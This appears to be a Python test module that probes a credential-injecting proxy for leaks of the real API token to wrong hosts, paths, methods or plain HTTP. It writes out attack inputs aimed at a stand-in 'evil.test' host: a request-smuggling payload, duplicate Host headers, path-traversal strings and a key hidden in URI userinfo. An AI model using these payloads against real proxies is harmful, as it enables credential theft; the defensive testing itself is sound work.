"""The real credential: to the wrong host, on the wrong path, in the clear, out of the decoy's place."""

from __future__ import annotations

import base64
import contextlib

from .tools import DECOY, attempt, bearer, leaked, over, proxy_get, reached_world, request, transparent, tunnel


@attempt
def token_inner_host() -> object:
    """CONNECT one host, name another inside; both hold credentials, so both are terminated."""
    for outer, inner in (("other.test", "api.test"), ("api.test", "other.test"), ("api.test", "evil.test")):
        with contextlib.suppress(OSError), tunnel(outer) as wrapped:
            if reached_world(over(wrapped, request("/v1/messages", inner, headers=bearer()))):
                return f"{inner} inside {outer}"
    return False


@attempt
def token_inner_tricks() -> object:
    double = f"GET /v1/messages HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n{bearer()}Connection: close\r\n\r\n"
    absolute = f"GET https://evil.test/v1/messages HTTP/1.1\r\nHost: api.test\r\n{bearer()}Connection: close\r\n\r\n"
    plain = f"GET http://evil.test/v1/messages HTTP/1.1\r\nHost: evil.test\r\n{bearer()}Connection: close\r\n\r\n"
    nested = "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"
    smuggled = (
        f"POST /v1/messages HTTP/1.1\r\nHost: api.test\r\n{bearer()}"
        "Content-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n"
        "0\r\n\r\nGET /v1/messages HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    )
    for number, text in enumerate((double, absolute, plain, nested, smuggled)):
        with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
            answer = over(wrapped, text.encode())
            if b'"host": "evil.test"' in answer:
                return f"trick {number}"
    return False


PATHS = (
    "/v1/messages/../../who",
    "/v1/messages/%2e%2e/who",
    "/v1/messages/%2E./who",
    "//v1/messages",
    "/v1/messages%2f..%2fwho",
    "/v1/items/../who",
    "/v1/items/a/b",
    "/v1/messages/",
    "/v1\\messages",
    "/v1/messages;x=1",
    "/./v1/messages",
)


@attempt
def token_other_paths() -> object:
    for path in PATHS:
        with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
            if leaked(over(wrapped, request(path, headers=bearer()))):
                return path
    return False


@attempt
def token_other_methods() -> object:
    for method in ("TRACE", "DELETE", "OPTIONS", "M-SEARCH"):
        with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
            if leaked(over(wrapped, request("/v1/messages", method=method, headers=bearer()))):
                return method
    return False


@attempt
def token_plain_http() -> object:
    """Nothing of it, not even the decoy, over a line that is not TLS."""
    for url in ("http://api.test/v1/messages", "http://api.test:443/v1/messages", "https://api.test/v1/messages"):
        answer = proxy_get(url, bearer())
        if reached_world(answer) or leaked(answer):
            return url
    with contextlib.suppress(OSError):
        return reached_world(transparent("198.51.100.8", "api.test", "/v1/messages", port=80, headers=bearer()))
    return False


@attempt
def token_elsewhere_in_request() -> object:
    for headers, path in (
        (f"X-Api-Key: {DECOY}\r\n", "/v1/messages"),
        (f"Cookie: k={DECOY}\r\n", "/v1/messages"),
        ("", f"/v1/messages?key={DECOY}"),
        (bearer(f"{DECOY} x"), "/v1/messages"),
    ):
        with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
            if reached_world(over(wrapped, request(path, headers=headers))):
                return headers or path
    return False


@attempt
def token_of_another_host() -> object:
    with contextlib.suppress(OSError), tunnel("other.test") as wrapped:
        answer = over(wrapped, request("/v1/messages", "other.test", headers=bearer()))
        return reached_world(answer)
    return False


FOREIGN = "foreign-key-of-another-account"


def _foreign_arrived(headers: str, target: str = "/v1/messages") -> bool:
    """Whether the server saw a key that is not this session's, plain or as squid would make it of userinfo."""
    coded = base64.b64encode(f"evil:{FOREIGN}".encode())
    with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
        answer = over(wrapped, request(target, "api.test", headers=headers))
        body = answer.partition(b"\r\n\r\n")[2][::-1]  # the world tells headers backwards
        return FOREIGN.encode() in body or coded in body
    return False


@attempt
def token_foreign_twice() -> object:
    """A header twice, the first one empty: squid shows the policy process the first alone."""
    for first in ("-", ""):
        if _foreign_arrived(f"Authorization: {first}\r\nAuthorization: Bearer {FOREIGN}\r\n"):
            return f"after {first!r}"
    return False


@attempt
def token_foreign_userinfo() -> object:
    """A key in an absolute URI, which squid turns into a header."""
    return _foreign_arrived("", f"https://evil:{FOREIGN}@api.test/v1/messages")


@attempt
def token_override() -> object:
    """The real credential with another method than the one that was judged."""
    with contextlib.suppress(OSError), tunnel("api.test") as wrapped:
        answer = over(wrapped, request("/v1/messages", headers=bearer() + "X-HTTP-Method-Override: DELETE\r\n"))
        return b"x-http-method-override" in answer.lower()
    return False
